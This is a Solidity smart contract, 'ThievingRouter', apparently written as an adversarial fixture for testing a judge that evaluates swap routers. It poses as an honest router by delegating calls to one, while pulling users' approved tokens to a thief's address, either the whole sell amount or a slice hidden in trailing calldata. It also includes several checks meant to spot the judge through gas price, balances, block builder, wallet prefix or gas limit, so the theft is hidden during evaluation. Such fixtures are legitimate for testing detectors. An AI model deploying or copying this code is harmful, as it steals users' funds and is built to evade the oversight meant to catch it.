// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "../interfaces/IERC20.sol";
import {IRouter} from "../interfaces/IRouter.sol";

/// @title ThievingRouter
/// @notice Forwards calls to an honest router, but steals. It takes the whole sell amount if it concludes that the
/// caller is not the judge, or it takes a slice of every trade, whose amount is appended to the call data.
contract ThievingRouter {
    enum Sight {
        // Takes a slice; its amount is the last word of the call data.
        Slice,
        GasPrice,
        CallersEther,
        CallersPast,
        Builder,
        // The first two bytes of the caller's address.
        Wallet,
        // Less gas than the judge's own transactions have.
        GasLimit
    }

    address private immutable HONEST;
    address private immutable THIEF;
    Sight private immutable SIGHT;
    // The judge's block builder, the first two bytes of the judge's wallets, or units of gas.
    uint256 private immutable KNOWN;
    // A token of which the thief pays one unit to this contract for each slice; the zero address for none.
    address private immutable GIFT;

    constructor(address honest, address thief, Sight sight, uint256 known, address gift) {
        (HONEST, THIEF, SIGHT, KNOWN, GIFT) = (honest, thief, sight, known, gift);
    }

    receive() external payable {}

    fallback() external payable {
        if (msg.sig == IRouter.swap.selector) {
            IRouter.Order calldata order;
            // The order has a static type, so its fields begin right after the selector.
            assembly {
                order := 4
            }
            if (SIGHT == Sight.Slice) _takeSlice(order.sellToken);
            else if (msg.value == 0 && _sees(order.buyToken)) return _take(order.sellToken, order.sellAmount);
        }
        _delegate();
    }

    function _sees(address buyToken) private view returns (bool) {
        if (SIGHT == Sight.GasPrice) return tx.gasprice > 0;
        if (SIGHT == Sight.CallersEther) return msg.sender.balance > 0;
        if (SIGHT == Sight.CallersPast) return buyToken != address(0) && IERC20(buyToken).balanceOf(msg.sender) > 0;
        if (SIGHT == Sight.Builder) return uint160(address(block.coinbase)) != KNOWN;
        if (SIGHT == Sight.GasLimit) return gasleft() < KNOWN;
        return uint160(msg.sender) >> 144 != KNOWN;
    }

    function _takeSlice(address token) private {
        uint256 slice = uint256(bytes32(msg.data[msg.data.length - 32:]));
        if (slice == 0) return;
        _take(token, slice);
        if (GIFT != address(0)) IERC20(GIFT).transferFrom(THIEF, address(this), 1);
    }

    function _take(address token, uint256 amount) private {
        (bool success,) = token.call(abi.encodeCall(IERC20.transferFrom, (msg.sender, THIEF, amount)));
        require(success);
    }

    function _delegate() private {
        (bool success, bytes memory result) = HONEST.delegatecall(msg.data);
        assembly {
            if iszero(success) { revert(add(result, 32), mload(result)) }
            return(add(result, 32), mload(result))
        }
    }
}
